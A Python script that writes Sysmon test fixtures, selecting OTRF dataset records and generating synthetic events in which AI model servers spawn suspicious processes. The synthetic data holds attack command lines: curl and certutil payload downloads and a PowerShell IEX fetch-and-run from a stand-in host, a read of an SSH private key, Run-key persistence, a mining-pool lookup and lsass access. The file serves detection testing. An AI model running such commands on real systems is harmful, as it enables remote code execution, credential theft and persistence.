#!/usr/bin/env python3
"""Selects Sysmon events from OTRF Security-Datasets and makes a few synthetic ones.

Sysmon runs on Windows only, so nothing is recorded here.

Usage    microsoft.sysmon.py [EVENTS.ndjson[.gz]]
Needs    for the selection: a file of flat Windows events, one a line, from
         OTRF Security-Datasets (MIT licence); without it only the synthetic
         file is written.
Installs nothing.
Writes   schemas/sources/microsoft.sysmon/testdata/otrf.ndjson
         schemas/sources/microsoft.sysmon/testdata/synthetic_model_server.ndjson
         schemas/sources/microsoft.sysmon/testdata/synthetic_winlogbeat.ndjson

The selection takes whole records of the channel Microsoft-Windows-Sysmon/Operational
and changes nothing in them: every process creation (at most two alike), and of each
other event id those that differ most (shape, host, image, target), handles on
lsass.exe first.
"""

import gzip
import json
import sys

import common

CHANNEL = "Microsoft-Windows-Sysmon/Operational"
LIMIT = 480
BYTES = 1_400_000


def open_events(path):
    return gzip.open(path, "rb") if path.endswith(".gz") else open(path, "rb")


def same(e):
    """Events with equal keys show a reader nothing new."""
    if e["EventID"] == 1:
        return (1, e.get("ParentImage"), e.get("Image"), e.get("CommandLine"))
    image = e.get("Image") or e.get("SourceImage")
    target = e.get("TargetImage") or e.get("ImageLoaded") or e.get("QueryName") or e.get("DestinationIp") or e.get("PipeName")
    return (e["EventID"], image, target)


def select(path):
    records = []
    for line in open_events(path):
        e = json.loads(line)
        if e.get("Channel") == CHANNEL:
            records.append((line.rstrip(b"\n"), e))
    chosen, size, shapes, count = set(), 0, set(), {}

    def take(i):
        nonlocal size
        line = records[i][0]
        if i not in chosen and len(chosen) < LIMIT and size + len(line) < BYTES:
            chosen.add(i)
            size += len(line) + 1

    for i, (_, e) in enumerate(records):  # each shape of each id once, then all process creations
        shape = (e["EventID"], frozenset(e))
        if shape not in shapes:
            shapes.add(shape)
            take(i)
    for i, (_, e) in enumerate(records):
        if e["EventID"] == 1:
            key = same(e)
            count[key] = count.get(key, 0) + 1
            if count[key] <= 2:
                take(i)
    for i, (_, e) in enumerate(records):
        if e["EventID"] == 10 and str(e.get("TargetImage", "")).lower().endswith("lsass.exe") and count.get(same(e), 0) < 2:
            count[same(e)] = count.get(same(e), 0) + 1
            take(i)
    by_id = {}
    for i, (_, e) in enumerate(records):
        if i not in chosen and same(e) not in count:
            count[same(e)] = 1
            by_id.setdefault(e["EventID"], []).append(i)
    while by_id and len(chosen) < LIMIT:  # the rest in turn, one of each id
        for event_id in sorted(by_id):
            take(by_id[event_id].pop(0))
            if not by_id[event_id]:
                del by_id[event_id]
    return [records[i][0] for i in sorted(chosen)]


DATA = ("RuleName UtcTime ProcessGuid ProcessId Image FileVersion Description Product Company OriginalFileName CommandLine CurrentDirectory User LogonGuid LogonId "
        "TerminalSessionId IntegrityLevel Hashes ParentProcessGuid ParentProcessId ParentImage ParentCommandLine ParentUser").split()

PYTHON = "C:\\Program Files\\Python312\\python.exe"
SYSTEM = "C:\\Windows\\System32\\"
CHILDREN = [  # parent image, parent command line, image, command line, user
    (PYTHON, "python -m vllm.entrypoints.openai.api_server --model example/chat-small --port 8000",
     SYSTEM + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c whoami /all", "GPU-WIN-1\\svc-vllm"),
    (PYTHON, "python -m vllm.entrypoints.openai.api_server --model example/chat-small --port 8000",
     SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
     "dwByAGkAdABlAC0AbwB1AHQAcAB1AHQAIAAiAHMAeQBuAHQAaABlAHQAaQBjACIA", "GPU-WIN-1\\svc-vllm"),
    (PYTHON, "ray::RayWorkerWrapper.execute_method", SYSTEM + "curl.exe",
     "curl.exe -s http://198.51.100.66/x.ps1 -o C:\\Windows\\Temp\\x.ps1", "GPU-WIN-1\\svc-ray"),
    (PYTHON, "python -m uvicorn app.main:app --host 0.0.0.0 --port 8080", SYSTEM + "certutil.exe",
     "certutil -urlcache -split -f http://198.51.100.66/a.exe C:\\Windows\\Temp\\a.exe", "GPU-WIN-1\\svc-rag"),
    ("C:\\Users\\ana\\AppData\\Local\\Programs\\Ollama\\ollama.exe", "ollama serve", SYSTEM + "cmd.exe",
     "cmd /c net user /domain", "EXAMPLE\\ana"),
    ("C:\\Tritonserver\\bin\\tritonserver.exe", "tritonserver --model-repository=C:\\models",
     SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/p')\"", "NT AUTHORITY\\SYSTEM"),
    ("C:\\Program Files\\nodejs\\node.exe", "node C:\\mcp\\filesystem-server\\dist\\index.js C:\\share",
     SYSTEM + "cmd.exe", "cmd.exe /d /s /c \"type C:\\Users\\ana\\.ssh\\id_ed25519\"", "EXAMPLE\\ana"),
    # What a model server starts in its daily work.
    (PYTHON, "python -m vllm.entrypoints.openai.api_server --model example/chat-small --port 8000",
     PYTHON, "python -c \"from multiprocessing.spawn import spawn_main; spawn_main(parent_pid=4120, pipe_handle=1180)\" "
     "--multiprocessing-fork", "GPU-WIN-1\\svc-vllm"),
    (PYTHON, "python -m vllm.entrypoints.openai.api_server --model example/chat-small --port 8000",
     SYSTEM + "nvidia-smi.exe", "nvidia-smi --query-gpu=memory.used --format=csv", "GPU-WIN-1\\svc-vllm"),
    ("C:\\Users\\ana\\AppData\\Local\\Programs\\Ollama\\ollama.exe", "ollama serve",
     "C:\\Users\\ana\\AppData\\Local\\Programs\\Ollama\\lib\\ollama\\ollama_llama_server.exe",
     "ollama_llama_server.exe runner --model C:\\models\\blob --port 50123", "EXAMPLE\\ana"),
]


def synthetic():
    """Process creations below model servers, in the shape NXLog gives Sysmon 13 events."""
    out = []
    for i, (parent, parent_cmd, image, cmd, user) in enumerate(CHILDREN):
        second, pid = f"{10 + i:02d}", 5200 + 4 * i
        name = image.rsplit("\\", 1)[1]
        data = {
            "RuleName": "-", "UtcTime": f"2026-01-15 09:30:{second}.125",
            "ProcessGuid": f"{{0f0e0d0c-{i:04x}-6a00-0000-001000000000}}", "ProcessId": str(pid), "Image": image,
            "FileVersion": "10.0.20348.1 (WinBuild.160101.0800)", "Description": name, "Product": "synthetic",
            "Company": "Example", "OriginalFileName": name, "CommandLine": cmd, "CurrentDirectory": "C:\\srv\\",
            "User": user, "LogonGuid": "{0f0e0d0c-0001-6a00-e703-000000000000}", "LogonId": "0x3e7",
            "TerminalSessionId": "0", "IntegrityLevel": "System" if "SYSTEM" in user else "Medium",
            "Hashes": f"SHA1={i:040X},MD5={i:032X},SHA256={i:064X},IMPHASH={i:032X}",
            "ParentProcessGuid": "{0f0e0d0c-ffff-6a00-0000-001000000000}", "ParentProcessId": "4120",
            "ParentImage": parent, "ParentCommandLine": parent_cmd, "ParentUser": user,
        }
        message = "Process Create:\r\n" + "\r\n".join(f"{k}: {v}" for k, v in data.items())
        out.append({
            "@timestamp": f"2026-01-15T09:30:{second}.980Z", "@version": "1", "EventTime": f"2026-01-15 09:30:{second}",
            "EventReceivedTime": f"2026-01-15 09:30:{int(second) + 1:02d}", "EventID": 1, "Version": 5, "Task": 1,
            "OpcodeValue": 0, "Opcode": "Info", "Category": "Process Create (rule: ProcessCreate)",
            "Keywords": -9223372036854775808, "SeverityValue": 2, "Severity": "INFO", "EventType": "INFO",
            "RecordNumber": 90001 + i, "ExecutionProcessID": 2840, "ThreadID": 3796, "Channel": CHANNEL,
            "SourceName": "Microsoft-Windows-Sysmon", "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
            "Hostname": "gpu-win-1.example.com", "host": "wec.example.com", "port": 50000, "Domain": "NT AUTHORITY",
            "AccountName": "SYSTEM", "AccountType": "User", "UserID": "S-1-5-18", "SourceModuleName": "eventlog",
            "SourceModuleType": "im_msvistalog", "Message": message, **data,
        })
    return "".join(json.dumps(e, separators=(",", ":")) + "\n" for e in out).encode()


OTHERS = [  # event id, event data: what the classes beside process creation need
    (3, {"UtcTime": "2026-11-20 09:31:00.125", "ProcessGuid": "{0f0e0d0c-0001-6a00-0000-001000000000}", "ProcessId": "5200", "Image": SYSTEM + "curl.exe", "User": "EXAMPLE\\ana", "Protocol": "tcp", "Initiated": "true",
         "SourceIp": "192.0.2.30", "SourcePort": "50112", "SourceHostname": "gpu-win-1", "DestinationIp": "198.51.100.66", "DestinationPort": "443", "DestinationHostname": "files.example.net"}),
    (11, {"UtcTime": "2026-11-20 09:31:01.125", "ProcessGuid": "{0f0e0d0c-0001-6a00-0000-001000000000}", "ProcessId": "5200", "Image": SYSTEM + "curl.exe", "TargetFilename": "C:\\Windows\\Temp\\x.ps1", "User": "EXAMPLE\\ana"}),
    (13, {"UtcTime": "2026-11-20 09:31:02.125", "EventType": "SetValue", "ProcessGuid": "{0f0e0d0c-0001-6a00-0000-001000000000}", "ProcessId": "5200", "Image": SYSTEM + "reg.exe",
          "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater", "Details": "C:\\x.exe", "User": "EXAMPLE\\ana"}),
    (22, {"UtcTime": "2026-11-20 09:31:03.125", "ProcessGuid": "{0f0e0d0c-0001-6a00-0000-001000000000}", "ProcessId": "5200", "QueryName": "xmr.pool.example", "QueryStatus": "0", "QueryResults": "::ffff:203.0.113.66;",
          "Image": SYSTEM + "curl.exe", "User": "EXAMPLE\\ana"}),
    (10, {"UtcTime": "2026-11-20 09:31:04.125", "SourceProcessGUID": "{0f0e0d0c-0001-6a00-0000-001000000000}", "SourceProcessId": "5200", "SourceImage": "C:\\x.exe", "TargetProcessGUID": "{0f0e0d0c-0002-6a00-0000-001000000000}",
          "TargetProcessId": "720", "TargetImage": SYSTEM + "lsass.exe", "GrantedAccess": "0x1010", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4", "SourceUser": "EXAMPLE\\ana", "TargetUser": "NT AUTHORITY\\SYSTEM"}),
]


def winlogbeat():
    """The same and other events in the shape of Winlogbeat 9."""
    events = [(1, {k: v for k, v in json.loads(line).items() if k in DATA}) for line in synthetic().splitlines()[:3]] + OTHERS
    out = []
    for i, (event_id, data) in enumerate(events):
        out.append({"@timestamp": data["UtcTime"].replace(" ", "T") + "Z", "ecs": {"version": "8.17.0"}, "agent": {"type": "winlogbeat", "version": "9.2.0"},
                    "event": {"code": str(event_id), "kind": "event", "provider": "Microsoft-Windows-Sysmon"}, "host": {"name": "gpu-win-1.example.com"},
                    "log": {"level": "information"}, "message": "Sysmon", "winlog": {"api": "wineventlog", "channel": CHANNEL,
                    "computer_name": "gpu-win-1.example.com", "event_id": str(event_id), "record_id": str(91001 + i), "opcode": "Info",
                    "provider_name": "Microsoft-Windows-Sysmon", "process": {"pid": 2840, "thread": {"id": 3796}}, "user": {"identifier": "S-1-5-18"},
                    "version": 5, "event_data": data}})
    return "".join(json.dumps(e, separators=(",", ":")) + "\n" for e in out).encode()


def main():
    out = common.testdata("microsoft.sysmon")
    if len(sys.argv) > 1:
        common.write(out / "otrf.ndjson", b"\n".join(select(sys.argv[1])) + b"\n")
    common.write(out / "synthetic_model_server.ndjson", synthetic())
    common.write(out / "synthetic_winlogbeat.ndjson", winlogbeat())


if __name__ == "__main__":
    main()
